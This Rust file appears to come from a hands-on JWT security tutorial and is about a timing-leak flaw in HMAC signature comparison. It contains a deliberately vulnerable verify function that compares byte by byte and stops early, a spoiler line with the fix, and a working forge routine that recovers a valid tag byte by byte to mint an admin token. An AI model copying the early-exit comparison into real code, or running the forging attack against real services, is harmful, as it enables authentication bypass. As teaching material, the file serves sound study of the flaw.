//! # A comparison that stops at the first difference
//!
//! The right tag is computed and compared with the one that came, from left to
//! right. The first byte that differs ends it. So the answer comes a little
//! later if the first byte is right, and later still if the second is, too. That
//! little is a nanosecond or so. Here, each equal byte takes 5 µs more, so that
//! you can see it: the delay is put in, and the mistake is a real one.
//!
//! **Who:** Mojo::JWT until 2026, with Perl's `eq`; robbert229/jwt until 2017.
//!
//! **The way in:** send your payload with all 256 first bytes, and note which
//! one takes longest. That is the right one. Go on with the second. After 32
//! bytes you have the tag, and never knew the secret.
//!
//! **Closed by** check 9: `verify_slice` looks at all 32 bytes, whatever it
//! sees, and `Tag` has no `==`.

use crate::tutorial::*;
use crate::world;

pub fn verify(token: &str, secret: &str, now: u64) -> Verdict {
    let [_, payload, signature] = three_parts(token)?;
    let received = decode(signature)?;
    let right = hmac(secret.as_bytes(), signing_input(token).as_bytes());
    if received.len() != right.len() {
        return refuse("a signature has 32 bytes");
    }

    for (one, other) in received.iter().zip(&right) {
        let differs = one != other;
        if differs {
            return refuse("the signature is wrong");
        }
        world::pause(); // so that the difference can be seen
    }

    let claims = read_json(payload)?;
    check_time(&claims, now)?;
    Ok(claims)
}

// ---- Spoilers: the line that closes the hole, and the way in ----
// -         let differs = one != other;
// +         let differs = check_signature(token, secret).is_err();

use crate::level::{Attacker, Case, Hole, USUAL};
use jwt_by_hand::base64url;
use std::cmp::Reverse;

pub const HOLE: Hole = Hole {
    cases: &[
        Case {
            name: "CVE-2015-10004",
            url: "https://pkg.go.dev/vuln/GO-2020-0023",
            date: "2021-04-14",
            library: "robbert229/jwt",
            versions: "before 2017-04-26",
            wrong: "tags are compared with a comparison that stops early",
        },
        Case {
            name: "CVE-2026-9537",
            url: "http://www.openwall.com/lists/oss-security/2026/07/17/11",
            date: "2026-07-17",
            library: "Mojo::JWT",
            versions: "before 1.02",
            wrong: "signatures are compared with Perl's `eq`",
        },
    ],
    ..USUAL
};

pub fn forge(attacker: &Attacker) -> String {
    let payload = as_admin(attacker.token);
    let token = |tag: &[u8; 32]| {
        format!("{}.{payload}.{}", usual_header(), base64url::encode(tag))
    };
    let mut tag = [0; 32];
    for place in 0..32 {
        // Anything may make an answer late, and nothing makes it early. So those that
        // were early are out, and the others are asked again.
        let mut left: Vec<(u64, u8)> =
            (0..=255).map(|byte| (u64::MAX, byte)).collect();
        while left.len() > 1 {
            for (time, byte) in &mut left {
                tag[place] = *byte;
                *time = attacker.shortest_time(&token(&tag), 2).min(*time);
            }
            left.sort_unstable_by_key(|(time, _)| Reverse(*time));
            left.truncate(left.len() / 2);
        }
        tag[place] = left[0].1;
    }
    token(&tag)
}
